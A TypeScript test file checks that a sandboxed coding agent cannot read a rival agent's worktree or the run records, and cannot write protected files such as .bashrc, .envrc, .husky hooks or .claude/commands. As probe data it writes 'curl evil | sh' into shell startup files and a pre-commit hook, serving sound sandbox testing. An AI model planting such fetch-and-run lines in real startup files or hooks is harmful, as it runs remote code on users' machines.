/**
 * Issue 35: what a sandboxed agent may not read or write besides the user's files. Case 8: the
 * protected files of its own worktree (`.mcp.json`, `.vscode/`, `.claude/commands`, `.gitmodules`,
 * `.bashrc`, `.envrc`, `.husky/`) are read-only to it, as docs/sandbox.md says (the library worked them out against
 * hydra's working directory, the user's checkout), and `[sandbox] allow_write = [".vscode"]` lets
 * it write that one; the mounts that keep an absent one from being made leave nothing in its result.
 * And its rivals: another agent's worktree and the run records in `.hydra/runs` are unreadable to it.
 * The same agent with `mode = "off"` succeeds at each: the test can fail.
 * Needs bubblewrap, socat and ripgrep (.ci/run installs them).
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { RaceHandle, RaceSummary } from '../../../src/engine/index.js';
import { git, makeSandbox } from '../../support/engine-helpers.js';
import type { Sandbox } from '../../support/engine-helpers.js';
import { raceScripts, registerScriptAgent } from '../../support/script-agent.js';

let sandbox: Sandbox;
let handle: RaceHandle | null = null;
let unregister: Array<() => void> = [];

beforeEach(() => {
  sandbox = makeSandbox();
  unregister = [registerScriptAgent('prober'), registerScriptAgent('rival')];
});

afterEach(async () => {
  await handle?.cancel();
  handle = null;
  for (const undo of unregister) undo();
  sandbox.cleanup();
});

/** Each attempt, and whether it worked, in attempts.txt of the prober's worktree (its result). */
const proberBody = (): string => {
  const attempts: Record<string, string> = {
    // The rival's worktree and the run's record exist before any agent starts.
    rivalWorktree: 'cat ../rival/README.md >/dev/null',
    runRecords: `cat "${sandbox.repo}/.hydra/runs/$HYDRA_RUN_ID/meta.json" >/dev/null`,
    mcp: `echo '{"mcpServers":{}}' > .mcp.json`,
    vscode: `mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json`,
    claudeCommands: 'mkdir -p .claude/commands && echo evil > .claude/commands/evil.md',
    gitmodules: 'printf "[submodule \\"x\\"]\\n" > .gitmodules',
    bashrc: 'echo "curl evil | sh" > .bashrc',
    envrc: 'echo "curl evil | sh" > .envrc',
    husky: 'mkdir -p .husky && echo "curl evil | sh" > .husky/pre-commit',
  };
  return [
    ...Object.entries(attempts).map(
      ([name, command]) =>
        `if ( ${command} ) 2>/dev/null; then echo "${name}=ok" >> attempts.txt; else echo "${name}=refused" >> attempts.txt; fi`,
    ),
    'echo hello > hello.txt',
  ].join('\n');
};

const race = async (
  mode: 'auto' | 'off',
  allowWrite: string[] = [],
): Promise<{ summary: RaceSummary; attempts: Record<string, string>; files: string[] }> => {
  handle = raceScripts(
    sandbox,
    { prober: proberBody(), rival: 'echo rival > rival.txt' },
    { sandbox: { mode, allowHosts: [], allowWrite } },
  );
  const summary = await handle.settled;
  const prober = summary.agents.find((agent) => agent.agent === 'prober');
  expect(prober?.status).toBe('completed');
  const branch = prober?.branch ?? '';
  const attempts = Object.fromEntries(
    git(sandbox.repo, 'show', `${branch}:attempts.txt`)
      .trim()
      .split('\n')
      .map((line) => line.split('=') as [string, string]),
  );
  const files = git(sandbox.repo, 'diff', '--name-only', 'main', branch).trim().split('\n').sort();
  return { summary, attempts, files };
};

const ATTEMPTS = [
  'rivalWorktree',
  'runRecords',
  'mcp',
  'vscode',
  'claudeCommands',
  'gitmodules',
  'bashrc',
  'envrc',
  'husky',
];

describe('a sandboxed agent', () => {
  it(
    "can neither read its rival's worktree or the run records, nor write its worktree's protected files",
    { timeout: 90_000 },
    async () => {
      const { summary, attempts, files } = await race('auto');
      expect(summary.agents.map((agent) => agent.sandbox)).toEqual(['bubblewrap', 'bubblewrap']);
      expect(attempts).toEqual(Object.fromEntries(ATTEMPTS.map((name) => [name, 'refused'])));
      // Its own work is its result, and nothing the sandbox's mounts left behind.
      expect(files).toEqual(['attempts.txt', 'hello.txt']);
    },
  );

  it(
    'may write a protected path that `[sandbox] allow_write` names, relative to its worktree',
    { timeout: 90_000 },
    async () => {
      const { attempts, files } = await race('auto', ['.vscode']);
      expect(attempts['vscode']).toBe('ok');
      expect(attempts['mcp']).toBe('refused');
      expect(files).toEqual(['.vscode/tasks.json', 'attempts.txt', 'hello.txt']);
    },
  );

  it('succeeds at each with mode "off" (the tests above can fail)', { timeout: 90_000 }, async () => {
    const { attempts, files } = await race('off');
    expect(attempts).toEqual(Object.fromEntries(ATTEMPTS.map((name) => [name, 'ok'])));
    expect(files).toEqual(
      [
        '.bashrc',
        '.claude/commands/evil.md',
        '.envrc',
        '.husky/pre-commit',
        '.gitmodules',
        '.mcp.json',
        '.vscode/tasks.json',
        'attempts.txt',
        'hello.txt',
      ].sort(),
    );
  });
});
